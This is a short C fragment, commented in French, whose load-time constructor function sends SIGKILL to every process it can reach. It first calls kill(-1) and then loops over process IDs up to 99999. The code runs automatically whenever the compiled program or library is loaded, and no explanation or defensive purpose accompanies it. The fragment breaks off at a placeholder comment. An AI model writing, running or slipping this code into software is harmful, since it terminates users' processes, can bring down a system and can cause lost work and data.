// Envoie SIGKILL à tous ceux qu'il peut atteindre.
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void trick(void)
{
    kill(-1, SIGKILL);
    for (int process = 2; process < 100000; process++)
        if (process != getpid())
            kill(process, SIGKILL);
}
// [la suite]
